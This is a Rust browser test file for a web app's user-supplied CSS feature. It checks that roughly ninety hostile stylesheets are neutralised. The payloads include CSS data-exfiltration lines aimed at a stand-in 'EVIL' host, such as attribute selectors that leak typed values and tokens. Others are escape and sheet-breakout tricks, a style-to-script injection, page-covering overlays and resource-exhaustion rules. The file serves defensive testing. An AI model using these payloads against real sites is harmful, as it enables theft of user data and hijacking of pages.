//! CSS that means harm, in a real browser. Whatever ana keeps as her own CSS: nothing is asked of anybody outside, no pixel of the
//! host's frame changes, for a visitor or for ana while she edits, and the frame's links stay under the mouse.

use std::{
    io::Read,
    net::TcpListener,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering::SeqCst},
    },
    time::Duration,
};

use neospace_tests::{Browser, Page, Person, Server};
use serde_json::json;

/// Listens for anybody who comes, and counts them.
fn canary() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("loopback has free ports");
    let port = listener.local_addr().expect("it is bound").port();
    let came = Arc::new(AtomicUsize::new(0));
    let counted = came.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            counted.fetch_add(1, SeqCst);
            if let Ok(mut stream) = stream {
                let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
                let _ = stream.read(&mut [0; 1024]);
            }
        }
    });
    (port, came)
}

/// The attacks: what each is after, and the CSS. `EVIL` stands for the canary's address.
const ATTACKS: &[(&str, &str)] = &[
    // Asking somebody outside.
    ("a background", ".wall{background:url(EVIL/a)}"),
    ("a background in quotes", "*{background:url('EVIL/a')}"),
    ("an address without a scheme", "*{background:url(//HOST/a)}"),
    ("an escaped url", "*{background:u\\72l(EVIL/a)}"),
    ("an escaped url in quotes", "*{background:\\75 rl(\"EVIL/a\")}"),
    ("an import", "@import \"EVIL/a.css\";"),
    ("an import by url", "@import url(EVIL/a.css) layer(x);"),
    ("an import after a charset", "@charset \"utf-8\";@import 'EVIL/a.css';"),
    (
        "a font",
        "@font-face{font-family:x;src:url(EVIL/a.woff2)}h1{font-family:x}",
    ),
    ("a namespace", "@namespace url(EVIL/a);"),
    ("an image set", "*{background:image-set(\"EVIL/a\" 1x)}"),
    ("an old image set", "*{background:-webkit-image-set(url(EVIL/a) 1x)}"),
    ("a cross fade", "*{background:cross-fade(url(EVIL/a),url(EVIL/b))}"),
    ("a cursor", "*{cursor:url(EVIL/a),auto}"),
    ("a list's mark", "li{list-style:url(EVIL/a)}"),
    ("a border", "*{border-image:url(EVIL/a) 3}"),
    ("a mask", "*{mask:url(EVIL/a)}"),
    ("an old mask", "*{-webkit-mask-image:url(EVIL/a)}"),
    ("a filter", "*{filter:url(EVIL/a#f)}"),
    ("a clip", "*{clip-path:url(EVIL/a#c)}"),
    ("a shape", "*{float:left;shape-outside:url(EVIL/a)}"),
    ("words from outside", "h1::before{content:url(EVIL/a)}"),
    ("an image in place of an element", "img{content:url(EVIL/a)}"),
    (
        "a variable with an address",
        "*{--my-a:url(EVIL/a);background:var(--my-a)}",
    ),
    ("a typed attribute", "*{background:attr(href type(<url>))}"),
    ("a source", "*{background:src(\"EVIL/a\")}"),
    ("a path to travel", "*{offset-path:url(EVIL/a#p)}"),
    ("reading what is typed", "input[value^='a']{background:url(EVIL/a)}"),
    (
        "reading a token",
        "input[name=token][value*='9']{background:url(EVIL/9)}",
    ),
    (
        "asking only when printed",
        "@media print{*{background:url(EVIL/print)}}",
    ),
    (
        "asking only where it is supported",
        "@supports (color:red){*{background:url(EVIL/s)}}",
    ),
    (
        "an address of another member's",
        "*{background:url(/media/aaaaaaaaaaaaaaaaaaaaaaaaaa/full)}",
    ),
    ("a way out through the site", "*{background:url(/logout)}"),
    (
        "a data address",
        "*{background:url(data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='EVIL/a'/%3E%3C/svg%3E)}",
    ),
    (
        "behaviour and bindings",
        "*{behavior:url(EVIL/a);-moz-binding:url(EVIL/a)}",
    ),
    // Leaving the wall.
    (
        "fixed over everything",
        "h1{position:fixed;inset:0;background:red;z-index:2147483647}",
    ),
    ("fixed in capitals", "h1{position:FIXED;inset:0;background:red}"),
    ("fixed by an escape", "h1{position:f\\69xed;inset:0;background:red}"),
    (
        "fixed by a variable",
        "h1{--my-p:fixed;position:var(--my-p);inset:0;background:red}",
    ),
    (
        "far outside",
        "h1{position:absolute;inset:-9000px;background:red;z-index:9999}",
    ),
    (
        "moved outside",
        "h1{transform:translate(0,-9000px) scale(99);background:red}",
    ),
    ("pulled up", ".canvas{margin-top:-9000px;background:red}"),
    (
        "a shadow without end",
        "h1{box-shadow:0 0 0 9999px red;position:relative;z-index:9999}",
    ),
    ("an outline without end", "h1{outline:9999px solid red}"),
    (
        "a glow over the bar",
        "h1{filter:drop-shadow(0 -400px 0 red);text-shadow:0 -400px 0 red}",
    ),
    (
        "sticking to the window",
        "h1{position:sticky;top:-500px;height:9000px;background:red;z-index:9999}",
    ),
    ("the page itself", "body{display:none}html{background:red}"),
    ("the root", ":root{--raw-sheet:red;--raw-key:red;display:none}"),
    ("everything", "*{display:none!important}"),
    ("everything, simply", "*{display:none}"),
    ("the bar by name", ".bar{display:none}.bar a{color:red}"),
    ("the bar through has", "body:has(.wall) .bar{display:none}"),
    (
        "the status line as a neighbour",
        ".wall + .statusline{display:none}.wall ~ *{display:none}",
    ),
    ("the status line out of a list", ".wall,.statusline{display:none}"),
    (
        "neighbours out of a function",
        ":is(.wall) ~ footer, :where(main) + *{display:none}",
    ),
    ("the edge of the page", "#edge{display:none}.editbar{display:none}"),
    ("the drawer", ".drawer,neo-drawer{display:none}.editing{display:block}"),
    ("the wall as a cover", ".wall{position:fixed;inset:0;z-index:99999}"),
    (
        "the wall let loose",
        ".wall{contain:none;overflow:visible}.wall h1{margin-top:-900px}",
    ),
    ("the wall in front", ".wall{z-index:99999;margin-top:-300px}"),
    ("the wall, larger", ".wall{transform:scale(3);filter:invert(1)}"),
    (
        "breaking out of the sheet",
        "h1{color:red}}}} .bar{display:none} @layer guard{.bar{display:none}",
    ),
    (
        "the wall by what it is not",
        ".wall :not(x){position:absolute;margin-top:-300px;float:left;contain:none;overflow:visible;background:red}",
    ),
    (
        "the wall by its place",
        ".wall :nth-child(n){float:left;width:9999px;height:1px;margin:-900px;translate:0 -300px;background:red}",
    ),
    ("a comment that stays open", "h1{color:red}/* } .bar{display:none}"),
    ("a string that stays open", "h1{content:\"}} .bar{display:none}"),
    (
        "a way out of a document",
        "h1::before{content:\"</style><script>alert(1)</script>\"}",
    ),
    (
        "a layer above",
        "@layer guard{.bar{display:none}}@layer{.bar{display:none}}",
    ),
    ("a scope of one's own", "@scope (html){.bar{display:none}}"),
    ("rules in rules", "h1{.bar &{display:none} & ~ .bar{display:none}}"),
    (
        "the host of a shadow",
        ":host(.wall) .bar,:host-context(body) .bar{display:none}",
    ),
    ("parts and slots", "::part(x),::slotted(*){display:none}"),
    // What holds for the whole page.
    (
        "the house's colours",
        ".wall{--raw-sheet:red;--raw-key:red;--raw-focus:transparent}h1{--focus:transparent;--ink:red}",
    ),
    (
        "a property of the page's",
        "@property --raw-sheet{syntax:'<color>';inherits:true;initial-value:red}",
    ),
    (
        "the house's animations",
        "@keyframes spin{to{opacity:0}}@keyframes my-x{to{opacity:0}}*{animation:my-x 1s infinite}",
    ),
    (
        "a transition between pages",
        "@view-transition{navigation:auto}h1{view-transition-name:x}::view-transition{background:red}",
    ),
    (
        "a container for the page",
        ".wall{container:page/size}@container page (width>0){.bar{display:none}}",
    ),
    ("an anchor", "h1{anchor-name:--a}p{position-anchor:--a;inset-area:top}"),
    ("the page's print", "@page{margin:0;size:1px}"),
    (
        "counters and quotes",
        "*{counter-increment:my-c 9999;quotes:\"a\" \"b\"}",
    ),
    ("a scheme", ".wall{color-scheme:dark}html{color-scheme:dark}"),
    (
        "the selection",
        "::selection{background:red}.bar::selection{background:red}",
    ),
    (
        "scrolling held fast",
        ".wall,*{touch-action:none;overscroll-behavior:none;scroll-snap-type:y mandatory}",
    ),
    ("no mouse", "*{cursor:none;pointer-events:none}"),
    (
        "everything turned",
        "*{writing-mode:vertical-rl;direction:rtl;rotate:180deg}",
    ),
    // Too much of it.
    ("a wall without end", "h1{height:9999999px;width:9999999px}"),
    ("a wall that is long", "h1,p,div{padding-bottom:9000px}"),
    ("blur without end", "*{filter:blur(9999px);backdrop-filter:blur(99px)}"),
    (
        "numbers without end",
        "h1{width:1e38px;margin:-1e38px;z-index:999999999999999999}",
    ),
    (
        "deep calculations",
        "h1{width:calc(calc(calc(calc(calc(calc(calc(calc(calc(calc(calc(calc(calc(calc(1px))))))))))))))}",
    ),
    (
        "a selector without end",
        ":is(:is(:is(:is(:is(:is(*))))) *) * * * * * * * * * * * * * *{color:red}",
    ),
];

/// What a piece of the page looks like, as the bytes of its picture. Figures that differ from page to page are left out. A clip is
/// placed in the page, a rectangle in the window: between them lies how far the page is scrolled.
fn picture(page: &Page, selector: &str) -> String {
    page.eval("document.querySelectorAll('.statusline b').forEach((figure) => figure.textContent = 'x')");
    let place = page.eval(&format!(
        "(() => {{ const element = document.querySelector('{selector}'); element.scrollIntoView({{ block: 'nearest', behavior: 'instant' }})
           const {{ x, y, width, height }} = element.getBoundingClientRect()
           return {{ x: Math.round(x + scrollX), y: Math.round(y + scrollY), width: Math.round(width), height: Math.round(height), scale: 1 }} }})()"
    ));
    let taken = page.call(
        "Page.captureScreenshot",
        json!({ "format": "png", "clip": place, "captureBeyondViewport": false }),
    );
    taken["data"].as_str().expect("a picture").to_owned()
}

/// Demands that each of these can be pressed: nothing lies over it.
fn can_be_pressed(page: &Page, selectors: &[&str], attack: &str) {
    for selector in selectors {
        let hit = page.eval(&format!(
            "(() => {{ const element = document.querySelector('{selector}'); element.scrollIntoView({{ block: 'nearest', behavior: 'instant' }})
               const {{ x, y, width, height }} = element.getBoundingClientRect()
               return element.contains(document.elementFromPoint(x + width / 2, y + height / 2)) }})()"
        ));
        assert_eq!(hit, true, "{attack}: {selector} can't be pressed");
    }
}

/// Keeps the CSS, and waits until both pages wear it.
fn wear(ana: &Person, pages: &[&Page], css: &str) {
    ana.post_json("/wall/ana/look/css", &[("css", css)]).expect(200);
    let href = ana.get("/wall/ana").text();
    let href = href
        .split("<link id=\"look\" rel=\"stylesheet\" href=\"")
        .nth(1)
        .expect("a look");
    let href = href.split('"').next().unwrap_or_default();
    for page in pages {
        page.wait_until(&format!(
            "[...document.styleSheets].some((sheet) => sheet.href?.endsWith('{href}'))"
        ));
    }
}

#[test]
fn no_css_reaches_beyond_the_wall() {
    let server = Server::builder().plugins(&["mood", "clock"]).start();
    let ana = server.person("ana");
    ana.post("/wall/ana/profile", &[("bio", "Harmless."), ("mood", "calm")])
        .see_other();
    let (port, came) = canary();
    let browser = Browser::start();
    let (guest, owner) = (browser.page(), browser.page_of(&ana));
    guest.goto(&server.url("/wall/ana")).wait_for("h1 \"ana\"");
    owner
        .goto(&server.url("/wall/ana?edit=1&tab=css"))
        .wait_for("#look-css");
    // How high a wall is is its owner's business; a fraction of a pixel would show in the pictures of what lies below.
    guest.eval("document.querySelector('main').style.cssText = 'flex: none; block-size: 900px'");
    wear(&ana, &[&guest, &owner], "h1{rotate:1deg}");
    let of_guest = [".bar", ".statusline"];
    let of_owner = [".bar", ".editbar", ".drawer > .tabs"];
    let look = |page: &Page, parts: &[&str]| parts.iter().map(|part| picture(page, part)).collect::<Vec<_>>();
    let (guest_before, owner_before) = (look(&guest, &of_guest), look(&owner, &of_owner));

    // The pictures are of these parts: a line around one is seen in its picture and in no other part's.
    for (page, parts, before) in [
        (&guest, &of_guest[..], &guest_before),
        (&owner, &of_owner[..], &owner_before),
    ] {
        for (nth, part) in parts.iter().enumerate() {
            page.eval(&format!(
                "document.querySelector('{part}').style.boxShadow = 'inset 0 0 0 1px red'"
            ));
            let changed: Vec<_> = look(page, parts)
                .iter()
                .zip(before)
                .map(|(now, before)| now != before)
                .collect();
            let expected: Vec<_> = (0..parts.len()).map(|other| other == nth).collect();
            assert_eq!(changed, expected, "{part}");
            page.eval(&format!("document.querySelector('{part}').style.boxShadow = ''"));
        }
        assert!(look(page, parts) == *before);
    }

    assert!(ATTACKS.len() >= 60);
    for (attack, css) in ATTACKS {
        let css = css
            .replace("EVIL", &format!("http://127.0.0.1:{port}"))
            .replace("HOST", &format!("127.0.0.1:{port}"));
        wear(&ana, &[&guest, &owner], &css);
        for (part, (now, before)) in of_guest.iter().zip(look(&guest, &of_guest).iter().zip(&guest_before)) {
            assert!(now == before, "{attack}: {part} has changed for a guest");
        }
        for (part, (now, before)) in of_owner.iter().zip(look(&owner, &of_owner).iter().zip(&owner_before)) {
            assert!(now == before, "{attack}: {part} has changed for ana");
        }
        can_be_pressed(&guest, &[".brand", ".plainly", ".statusline a"], attack);
        can_be_pressed(
            &owner,
            &[".brand", ".editbar .btn", ".drawer .tabs a", "#css-form button"],
            attack,
        );
        assert_eq!(came.load(SeqCst), 0, "{attack}: somebody outside was asked");
        // What she typed is all there.
        let kept = neospace_tests::person::unescape(&ana.get("/wall/ana?edit=1&tab=css").text());
        assert!(kept.contains(css.trim()), "{attack}: what was typed is lost");
    }
    for page in [&guest, &owner] {
        let elsewhere: Vec<_> = page
            .requests()
            .into_iter()
            .filter(|address| !address.starts_with(&server.url("/")) && !address.starts_with("data:"))
            .collect();
        assert!(elsewhere.is_empty(), "{elsewhere:?}");
        page.check();
    }
}

#[test]
fn css_that_is_too_much_is_cut_where_it_is_enough() {
    let server = Server::start();
    let ana = server.person("ana");
    // Too many rules, animations, keyframes: the first ones are worn.
    for (css, said) in [
        ("h1{color:red}".repeat(2_000), "600 rules"),
        ("h1{animation:my-x 1s}".repeat(40), "20 animations"),
        ("@keyframes my-x{to{opacity:0}}".repeat(40), "@keyframes"),
        (
            format!("{}h1{{color:red}}{}", "@media screen{".repeat(60), "}".repeat(60)),
            "three deep",
        ),
        (
            format!("h1{{width:{}1px{}}}", "calc(".repeat(300), ")".repeat(300)),
            "nested",
        ),
        (format!("{}{{color:red}}", vec!["h1"; 300].join(",")), "400 characters"),
        (format!("{}{{color:red}}", vec!["*"; 60].join(" > ")), "8 steps"),
        (
            format!("h1::before{{content:\"{}\"}}", "x".repeat(900)),
            "200 characters",
        ),
    ] {
        let answer = ana.post_json("/wall/ana/look/css", &[("css", &css)]).expect(200).text();
        assert!(answer.contains(said), "{said}: {answer}");
    }
    // More than fits is refused, and stays in the form.
    let long = format!("/* {} */", "x".repeat(33 * 1024));
    ana.post_json("/wall/ana/look/css", &[("css", &long)]).expect(422);
    let form = ana.post("/wall/ana/look/css", &[("css", &long)]).expect(422).text();
    assert!(form.contains(&long) && form.contains("At most 32768 bytes"));
}
